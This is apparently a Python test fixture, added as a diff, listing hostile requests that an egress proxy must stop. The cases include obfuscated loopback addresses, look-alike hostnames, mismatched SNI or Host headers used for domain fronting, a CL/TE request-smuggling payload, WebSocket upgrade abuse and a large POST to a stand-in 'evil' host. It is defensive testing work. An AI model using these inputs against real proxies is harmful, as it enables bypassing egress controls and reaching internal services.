@@ -1,0 +1,99 @@
+"""The hostile requests of battery E01 to E39 that a forward proxy must stop, as data: what to say, and in which order.
+
+`{ok}` is the listed host, `{evil}` an unlisted one that resolves to the same server (as on a shared front), `{port}`
+that server's port, `{raw}` the port of a server beside it, `{mark}` the words by which the server knows this case.
+A case reached the server if, and only if, the server saw its mark.
+"""
+
+from dataclasses import dataclass
+
+OK, EVIL, REGISTRY = "platform.byohost.test", "evil.test", "registry.byohost.test"
+CHANNELS = "webpubsub.byohost.test"
+GET = "GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\nConnection: close\r\n\r\n"
+
+
+@dataclass(frozen=True)
+class Case:
+    """One attempt: CONNECT (or none), then bytes in clear, then TLS with a server name, then bytes or HTTP/2 header lists.
+
+    `sni` empty sends none; None speaks no TLS. `requests` are HTTP/2 header lists, one stream each.
+    """
+
+    id: str
+    words: str
+    connect: str | None = "{ok}:{port}"
+    clear: str = ""
+    sni: str | None = "{ok}"
+    inside: str = GET
+    requests: tuple[tuple[tuple[str, str], ...], ...] = ()
+    actor: str = "operator"
+
+
+def _h2(authority: str, *more: tuple[str, str], path: str = "/{mark}") -> tuple[tuple[str, str], ...]:
+    return ((":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), *more)
+
+
+def _hosts(*hosts: str) -> str:
+    fields = "".join(f"Host: {host}\r\n" for host in hosts)
+    return f"GET /{{mark}} HTTP/1.1\r\n{fields}Connection: close\r\n\r\n"
+
+
+_OTHER_ADDRESSES = (
+    "127.0.0.1", "[::1]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.0x1", "127.0.0.1.", "0",
+    "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[fe80::1%25lo]",
+)  # fmt: skip
+_CONFUSABLE = (
+    "{ok}.{evil}", "evil{ok}", "x.{ok}", "byohost.test", "{ok}@{evil}", "under_score.{evil}", "platform-byohost-test.{evil}",
+    "platform.byohost.test.test", "ｐlatform.byohost.test",
+)  # fmt: skip
+_UPGRADE = "Connection: Upgrade\r\nUpgrade: {0}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+
+CASES = (
+    Case("E01", "CONNECT to an unlisted host", "{evil}:{port}", sni="{evil}", inside=_hosts("{evil}:{port}")),
+    Case("E01-actor", "another actor's destination", actor="sandbox"),
+    Case("E01-method", "a node that sends more than it fetches", REGISTRY + ":{port}", sni=REGISTRY, actor="node",
+         inside="POST /{mark} HTTP/1.1\r\nHost: " + REGISTRY + ":{port}\r\nContent-Length: 0\r\n\r\n"),
+    *(Case(f"E05-{a}" if a in {"127.0.0.1", "[::1]"} else f"E06-{a}", "an address, in some spelling", f"{a}:{{port}}")
+      for a in _OTHER_ADDRESSES),
+    Case("E07", "another port of the listed host", "{ok}:{raw}", inside=GET.replace("{port}", "{raw}")),
+    Case("E07-raw", "raw bytes to another port of the listed host", "{ok}:{raw}", "{mark}", None),
+    Case("E08-before", "raw bytes in the tunnel, before TLS", clear="SSH-2.0-{mark}\r\n", sni=None),
+    Case("E08-clear", "HTTP in the tunnel without TLS", clear=GET, sni=None),
+    Case("E08-after", "raw bytes inside TLS", inside="\x00\x01{mark}\r\n\r\n"),
+    Case("E09", "a server name that is not the CONNECT host", sni="{evil}"),
+    Case("E09-none", "no server name", sni=""),
+    Case("E10", "fronting: Host is another", inside=_hosts("{evil}:{port}")),
+    Case("E10-h2", "fronting in HTTP/2", requests=(_h2("{evil}:{port}"),)),
+    Case("E11", "CONNECT to another, server name and Host as listed", "{evil}:{port}"),
+    Case("E12", "an absolute target inside the tunnel", inside=GET.replace("/{mark}", "https://{evil}:{port}/{mark}")),
+    Case("E12-both", "an absolute target and Host inside the tunnel",
+         inside=_hosts("{evil}:{port}").replace("/{mark}", "https://{evil}:{port}/{mark}")),
+    Case("E13", "two Host fields, the listed first", inside=_hosts("{ok}:{port}", "{evil}:{port}")),
+    Case("E13-last", "two Host fields, the listed last", inside=_hosts("{evil}:{port}", "{ok}:{port}")),
+    Case("E13-same", "the same Host twice", inside=_hosts("{ok}:{port}", "{ok}:{port}")),
+    Case("E13-folded", "two hosts in one field", inside=_hosts("{ok}:{port}, {evil}:{port}")),
+    Case("E13-h2", "a Host beside the :authority", requests=(_h2("{ok}:{port}", ("host", "{evil}:{port}")),)),
+    Case("E13-none", "no Host", inside="GET /{mark} HTTP/1.0\r\n\r\n"),
+    Case("E14", "plain HTTP, target another, Host as listed", None, GET.replace("/{mark}", "http://{evil}:{port}/{mark}"), None),
+    Case("E14-host", "plain HTTP, Host another", None,
+         _hosts("{evil}:{port}").replace("/{mark}", "http://{ok}:{port}/{mark}"), None),
+    Case("E14-origin", "origin form to the proxy", None, _hosts("{evil}:{port}"), None),
+    Case("E14-listed", "plain HTTP to the listed host", None, GET.replace("/{mark}", "http://{ok}:{port}/{mark}"), None),
+    Case("E15", "another :authority on a connection in use",
+         requests=(_h2("{ok}:{port}", path="/before"), _h2("{evil}:{port}"))),
+    Case("E15-connect", "CONNECT inside HTTP/2", requests=(((":method", "CONNECT"), (":authority", "{evil}:{port}")),)),
+    *(Case(f"E17-{name}" if "_" not in name and "@" not in name else f"E16-{name}", "a name like the listed one",
+           f"{name}:{{port}}", sni="{ok}") for name in _CONFUSABLE),
+    Case("E18", "a sibling tenant under the channel suffix", f"sibling.{CHANNELS}:{{port}}", sni=f"sibling.{CHANNELS}",
+         inside=f"GET /{{mark}} HTTP/1.1\r\nHost: sibling.{CHANNELS}:{{port}}\r\n" + _UPGRADE.format("websocket")),
+    Case("E20", "WebSocket on a host that is no channel",
+         inside="GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n" + _UPGRADE.format("websocket")),
+    Case("E20-other", "an upgrade to something else",
+         inside="GET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n" + _UPGRADE.format("raw")),
+    Case("E23", "a listed name that resolves elsewhere", "rebound.byohost.test:{port}", sni="rebound.byohost.test",
+         inside=_hosts("rebound.byohost.test:{port}")),
+    Case("E33", "two body lengths", inside="POST /x HTTP/1.1\r\nHost: {ok}:{port}\r\nContent-Length: 5\r\n"
+         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{mark} HTTP/1.1\r\nHost: {ok}:{port}\r\n\r\n"),
+    Case("E39", "a large body to another Host", inside="POST /{mark} HTTP/1.1\r\nHost: {evil}:{port}\r\n"
+         "Content-Length: 200000\r\n\r\n" + "{mark}" * 20000),
+)  # fmt: skip
